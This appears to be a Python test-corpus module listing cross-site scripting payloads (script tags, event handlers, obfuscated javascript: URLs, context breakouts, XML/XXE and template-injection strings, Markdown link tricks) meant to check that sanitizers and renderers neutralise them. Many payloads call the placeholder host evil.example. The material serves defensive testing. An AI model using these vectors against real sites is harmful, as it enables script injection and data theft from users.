"""What somebody might write so that a browser runs it, and the place in which it would.

A payload says with `@@` what it would run, an assignment that a page counts (`ran=12`), and with `@#` the
number alone, for addresses on another host. The assignment has neither brackets nor quotation marks, so that
no rule of names or Markdown takes it apart.
"""

from typing import NamedTuple, Optional


class Payload(NamedTuple):
    """context is a key of CONTEXTS; None for what no browser of today runs anywhere."""

    text: str
    context: Optional[str]

    def numbered(self, number):
        return self.text.replace("@@", f"ran={number}").replace("@#", str(number))


EVIL = "//evil.example/"

# Pages in which nothing is escaped: the control. `{}` is the payload.
CONTEXTS = {
    "text": "<p>{}</p>",
    "attribute": '<p title="{}">x</p>',
    "single": "<p title='{}'>x</p>",
    "unquoted": "<p title={}>x</p>",
    "href": '<a href="{}">x</a>',
    "title": "<title>{}</title>",
    "textarea": "<textarea>{}</textarea>",
    "comment": "<!-- {} -->",
    "style": "<style>p {{ color: {} }}</style><p>x</p>",
    "style-attribute": '<p style="color: {}">x</p>',
    "script": '<script>var a = "{}";</script>',
    "script-single": "<script>var a = '{}';</script>",
    "script-template": "<script>var a = `{}`;</script>",
    "json": '<script type="application/ld+json">{{"name": "{}"}}</script>',
    "event": """<p onclick="void '{}'">x</p>""",
    "refresh": '<meta http-equiv="refresh" content="{}">',
    "srcdoc": '<iframe srcdoc="{}"></iframe>',
    "noscript": "<noscript>{}</noscript>",
    "iframe": "<iframe>{}</iframe>",
    "template": "<template>{}</template>",
    "xmp": "<xmp>{}</xmp>",
    "drawing": "<svg><![CDATA[{}]]></svg>",
    # A text that is taken apart once more: by a reader of feeds, or a script that shows results.
    "twice": "<p id=a>{}</p><script>a.innerHTML = a.textContent</script>",
    "percent": '<p id=a title="{}"></p><script>a.innerHTML = decodeURIComponent(a.title)</script>',
    "string": "<p id=a></p><script>a.innerHTML = '{}'</script>",
    # Served as XML, as feeds are.
    "xml": '<feed xmlns="http://www.w3.org/2005/Atom"><title>{}</title></feed>',
    "xml-attribute": '<feed xmlns="http://www.w3.org/2005/Atom"><link title="{}"/></feed>',
    "cdata": '<feed xmlns="http://www.w3.org/2005/Atom"><title><![CDATA[{}]]></title></feed>',
}

# Those that run as soon as they are elements, or when somebody touches them.
ELEMENTS = [
    "<script>@@</script>",
    "<ScRiPt >@@</sCrIpT >",
    "<script/x>@@</script>",
    "<script type=module>@@</script>",
    "<script src=data:text/javascript,@@></script>",
    "<img src=x onerror=@@>",
    "<img/src='x'/onerror=@@>",
    "<IMG SRC=x ONERROR=@@ ",
    "<img srcset=x onerror=@@>",
    "<image src=x onerror=@@>",
    "<svg onload=@@>",
    "<svg/onload=@@>",
    "<svg><script>@@</script></svg>",
    "<svg><script href=data:text/javascript,@@ />",
    "<svg><style><img src=x onerror=@@></style></svg>",
    "<svg><title><img src=x onerror=@@></title></svg>",
    "<svg><desc><script>@@</script></desc></svg>",
    "<svg><a xlink:href=javascript:@@><text>x</text></a></svg>",
    "<svg><a href=javascript:@@><text>x</text></a></svg>",
    "<svg><set onbegin=@@ attributeName=x>",
    "<svg><animate onbegin=@@ attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=@@></mtext></math>",
    "<iframe srcdoc='<script>parent.@@</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;parent.@@&lt;/script&gt;></iframe>",
    "<iframe src=javascript:parent.@@></iframe>",
    "<iframe onload=@@></iframe>",
    "<object data=x onerror=@@></object>",
    "<details open ontoggle=@@>x</details>",
    "<input autofocus onfocus=@@>",
    "<select autofocus onfocus=@@></select>",
    "<p tabindex=0 onfocus=@@>x</p>",
    "<video><source onerror=@@ src=x></video>",
    "<video src=x onerror=@@></video>",
    "<audio src=x onerror=@@></audio>",
    "<body onpageshow=@@>",
    "<style onload=@@></style>",
    "<link rel=stylesheet href=data:text/css, onload=@@>",
    "<a href=javascript:@@>x</a>",
    "<a href='javascript&colon;@@'>x</a>",
    "<form action=javascript:@@><button>x</button></form>",
    "<form><button formaction=javascript:@@>x</button></form>",
    "<form><input type=submit formaction=javascript:@@></form>",
    "<x onclick=@@>x</x>",
    "<p onmouseover=@@>x</p>",
    "<div><template shadowrootmode=open><img src=x onerror=@@></template></div>",
    "<noscript><p title='</noscript><img src=x onerror=@@>'>",
    "<table><td><script>@@</script></table>",
    "<select><option><img src=x onerror=@@></select><img src=x onerror=@@>",
]

# Those that ask another host for something.
REQUESTS = [
    f"<img src={EVIL}@#>",
    f"<img srcset='{EVIL}@# 1x'>",
    f"<img src=\\\\evil.example\\@#>",
    f"<picture><source srcset={EVIL}@#><img></picture>",
    f"<video poster={EVIL}@#></video>",
    f"<audio src={EVIL}@#></audio>",
    f"<script src={EVIL}@#></script>",
    f"<iframe src={EVIL}@#></iframe>",
    f"<object data={EVIL}@#></object>",
    f"<embed src={EVIL}@#>",
    f"<link rel=stylesheet href={EVIL}@#>",
    f"<link rel=preload as=image href={EVIL}@#>",
    f"<link rel=icon href={EVIL}@#><img src={EVIL}@#>",
    f"<style>@import '{EVIL}@#';</style>",
    f"<style>p {{ background: url({EVIL}@#) }}</style>",
    f"<p style=background:url({EVIL}@#)>x</p>",
    f"<table background={EVIL}@#><td>x</table>",
    f"<input type=image src={EVIL}@#>",
    f"<svg><image href={EVIL}@# /></svg>",
    f"<svg><use href={EVIL}@##x /></svg><img src={EVIL}@#>",
    f"<base href={EVIL}><img src=@#>",
    f"<meta http-equiv=refresh content=0;url=https:{EVIL}@#>",
]

# What leads out of a place, and what then runs.
BREAKOUTS = {
    "attribute": ['">', '"/>', '" x>'],
    "single": ["'>"],
    "unquoted": [">", " x>"],
    "title": ["</title>", "</TITLE x>"],
    "textarea": ["</textarea>"],
    "comment": ["-->", "--!>"],
    "style": ["red}</style>", "</style x>"],
    "script": ["</script>", "</script x>"],
    "json": ["</script>", '"}</script>'],
    "noscript": ["</noscript>"],
    "iframe": ["</iframe>"],
    "template": ["</template>"],
    "xmp": ["</xmp>"],
    "drawing": ["]]>"],
}
BROKEN_OUT = ["<script>@@</script>", "<img src=x onerror=@@>", "<svg onload=@@>", "<a href=javascript:@@>x</a>"]

# Attributes that come on top of the one that is left.
ATTRIBUTES = [
    ("attribute", '" onmouseover="@@'),
    ("attribute", '"onclick="@@'),
    ("attribute", '"/onclick="@@'),
    ("attribute", '" onclick=@@ "'),
    ("attribute", '" ONCLICK = "@@'),
    ("attribute", '" tabindex="0" onfocus="@@" autofocus x="'),
    ("attribute", f'" style="background:url({EVIL}@#)'),
    ("single", "' onmouseover='@@"),
    ("single", "' tabindex='0' onfocus='@@' x='"),
    ("unquoted", "x onclick=@@"),
    (None, "x/onclick=@@"),
    ("srcdoc", "<script>parent.@@</script>"),
    ("srcdoc", "<img src=x onerror=parent.@@>"),
    ("unquoted", "x tabindex=0 onfocus=@@ autofocus"),
    (None, "` onclick=@@ x=`"),
]

# Addresses that are scripts, and how they disguise it.
ADDRESSES = [
    ("href", "javascript:@@"),
    ("href", "JaVaScRiPt:@@"),
    ("href", "javascript:void(@@)"),
    ("href", "javascript:/**/@@"),
    ("href", "javascript://x%0a@@"),
    ("href", f"javascript:{EVIL}%0d%0a@@"),
    ("href", "javascript:'<script>parent.@@</script>'"),
    ("href", " javascript:@@"),
    ("href", "\tjavascript:@@"),
    ("href", "java\tscript:@@"),
    ("href", "javascript\t:@@"),
    ("href", "\x01javascript:@@"),
    ("href", "\x1fjavascript:@@"),
    ("href", "&#106;avascript:@@"),
    ("href", "&#x6A;avascript:@@"),
    ("href", "&#0000106avascript:@@"),
    ("href", "javascript&colon;@@"),
    ("href", "javascript&#58;@@"),
    ("href", "javascript&#x3a@@"),
    ("href", "java&Tab;script:@@"),
    ("href", "java&NewLine;script:@@"),
    ("href", "java&#10;script:@@"),
    ("href", "&#1;javascript:@@"),
    ("href", "&#32;javascript:@@"),
    ("href", '"onclick="@@'),
    ("href", 'x" onclick="@@'),
    ("href", '#" onclick="@@'),
    ("href", 'https://x.example/"onclick="@@'),
    ("href", "'\"><img src=x onerror=@@>"),
    (None, "javascript%3a@@"),
    (None, "java\\script:@@"),
    (None, "\u00a0javascript:@@"),
    (None, "vbscript:@@"),
    (None, "livescript:@@"),
    (None, "data:text/html,<script>@@</script>"),
    (None, "data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg=="),
    (None, "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@@'/>"),
    (None, "view-source:javascript:@@"),
    (None, "blob:https://hostile.example/@#"),
    (None, "filesystem:https://hostile.example/temporary/@#"),
    (None, "about:blank#@#"),
    (None, "file:///etc/passwd#@#"),
    (None, "mailto:x@example.org?subject=<script>@@</script>"),
]

# Strings of scripts, CSS, and texts that are read twice.
STRINGS = [
    ("script", '";@@;//'),
    ("script", '"-(@@)-"'),
    ("script", '"</script><script>@@</script>'),
    ("script-single", "';@@;//"),
    ("script-template", "${@@}"),
    ("script-template", "`;@@;//"),
    ("event", "';@@;//"),
    ("event", "&#39;;@@;//"),
    ("event", "&apos;;@@;//"),
    (None, "\\\";@@;//"),
    (None, "\u2028@@\u2029"),
    (None, '"}],"@type":"Person","name":"@@'),
    (None, "__proto__"),
    ("style", f"red; background: url({EVIL}@#)"),
    ("style", f"red }} p {{ background: url('{EVIL}@#')"),
    ("style-attribute", f"red; background: url({EVIL}@#)"),
    ("style-attribute", '" onclick="@@'),
    (None, "expression(@@)"),
    (None, f"url(javascript:@@)"),
    ("refresh", f"0;url=https:{EVIL}@#"),
    (None, "0;url=javascript:@@"),
    ("twice", "&lt;img src=x onerror=@@&gt;"),
    ("twice", "&#60;img src=x onerror=@@&#62;"),
    ("twice", "&#x3C;svg onload=@@&#x3E;&lt;img src=x onerror=@@&gt;"),
    ("percent", "%3Cimg src=x onerror=@@%3E"),
    ("percent", "%3cimg%20src%3dx%20onerror%3d@@%3e"),
    ("string", "\\u003cimg src=x onerror=@@\\u003e"),
    ("string", "\\x3cimg src=x onerror=@@\\x3e"),
    (None, "&amp;lt;img src=x onerror=@@&amp;gt;"),
    (None, "\uff1cscript\uff1e@@\uff1c/script\uff1e"),
    (None, "+ADw-script+AD4-@@+ADw-/script+AD4-"),
    (None, "<scr\x01ipt>@@</scr\x01ipt>"),
    (None, "<\u200bscript>@@</script\u200b>"),
    ("xml", "<script xmlns='http://www.w3.org/1999/xhtml'>@@</script>"),
    ("xml", "<x:img xmlns:x='http://www.w3.org/1999/xhtml' src='x' onerror='@@'/>"),
    ("xml", "<svg xmlns='http://www.w3.org/2000/svg' onload='@@'/>"),
    ("xml-attribute", "\"/><script xmlns='http://www.w3.org/1999/xhtml'>@@</script><x y=\""),
    ("cdata", "]]><script xmlns='http://www.w3.org/1999/xhtml'>@@</script><![CDATA["),
    (None, "]]>&x;<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"),
    (None, "<?xml-stylesheet href='data:text/xsl,@#'?>"),
    (None, "{{ title }}{{ '<script>@@</script>' }}"),
    (None, "{% include 'x' %}{% if %}"),
    (None, "{# @@ #}"),
    (None, "<%= @@ %>"),
    (None, "#{@@}[[@@]]"),
    (None, "<!--#include virtual='/etc/passwd' -->"),
    (None, "<?php @@ ?>"),
    ("text", "<!-- --><img src=x onerror=@@>"),
    ("text", "<!--><img src=x onerror=@@>-->"),
    ("text", "<![CDATA[><img src=x onerror=@@>]]>"),
    ("text", "<!doctype x><img src=x onerror=@@>"),
    ("text", "<?><img src=x onerror=@@>"),
    ("text", "</p></div></main></body></html><script>@@</script>"),
]

# In Markdown alone: what a renderer may be led to print.
MARKDOWN = [
    "[x](javascript:@@)",
    "[x](JAVASCRIPT:@@)",
    "[x](<javascript:@@>)",
    "[x](<java\tscript:@@>)",
    "[x](javascript&colon;@@)",
    "[x](&#x6A;avascript:@@)",
    "[x](\\javascript:@@)",
    "[x](javascript\\:@@)",
    "[x](data:text/html,@@)",
    "[x](vbscript:@@ 'x')",
    "<javascript:@@>",
    "<vbscript:@@>",
    "![x](javascript:@@)",
    "![x](data:image/svg+xml,@@)",
    '[x](# "\\" onclick=@@ x=\\"")',
    "[x](#'onclick='@@)",
    '[x](<#" onclick="@@>)',
    '![" onerror=@@ x="](picture.gif)',
    "[<img src=x onerror=@@>](#)",
    "[<script>@@</script>][nothing]",
    "**<script>@@</script>**",
    "*<img src=x onerror=@@>*",
    "`<img src=x onerror=@@>`",
    "``</code><img src=x onerror=@@>``",
    "~~<img src=x onerror=@@>~~",
    "\\<img src=x onerror=@@>",
    "<img src=x onerror=@@\\>",
    "<a href='javascript:@@'>x</a>",
    "<javascript:@@//@example.org>",
    "https://x.example/<script>@@</script>",
]


def all_payloads():
    """Every payload once; the order is always the same."""
    found = [Payload(text, "text") for text in ELEMENTS + REQUESTS]
    for context, starts in BREAKOUTS.items():
        found += [Payload(start + end, context) for start in starts for end in BROKEN_OUT]
    found += [Payload(text, context) for context, text in ATTRIBUTES + ADDRESSES + STRINGS]
    return list(dict.fromkeys(found))
